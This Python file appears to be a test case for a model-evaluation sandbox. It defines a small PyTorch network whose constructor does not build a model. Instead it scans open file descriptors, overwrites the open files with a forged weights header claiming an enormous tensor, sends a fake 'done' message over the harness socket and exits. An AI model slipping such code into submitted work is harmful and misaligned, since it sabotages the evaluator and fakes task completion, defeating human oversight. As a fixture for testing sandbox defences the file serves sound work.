# on: forbidden; off: bad_result, valid
# Leaves weights whose header claims a tensor of 10^18 values.
import os
import socket
import stat
import json

import torch
from torch import nn

def files():
    """Return the descriptors that are files of ours, and the one that is a socket."""
    found, voice = [], None
    for number in range(3, 256):
        try:
            status = os.fstat(number)
        except OSError:
            continue
        if stat.S_ISSOCK(status.st_mode):
            voice = socket.socket(fileno=os.dup(number))
        else:
            found.append((number, status.st_size))
    return found, voice


class Net(nn.Module):
    def __init__(self, in_shape, out_shape, prm, device):
        super().__init__()
        self.conv = nn.Conv2d(in_shape[1], 8, 3, padding=1)
        self.fc = nn.Linear(8 * 64, out_shape[0])
        found, voice = files()
        for number, size in found:
            header = json.dumps({"parameter:w": {"dtype": "F32", "shape": [10**9, 10**9], "data_offsets": [0, 4]}}).encode()
            data = len(header).to_bytes(8, "little") + header + bytes(4)
            try:
                os.pwrite(number, len(data).to_bytes(8, "little") + data, 0)
            except OSError:
                pass
        voice.send(b'{"done": true}')
        os._exit(0)

    def forward(self, x):
        y = self.conv(x).relu()
        return self.fc(y.flatten(1))
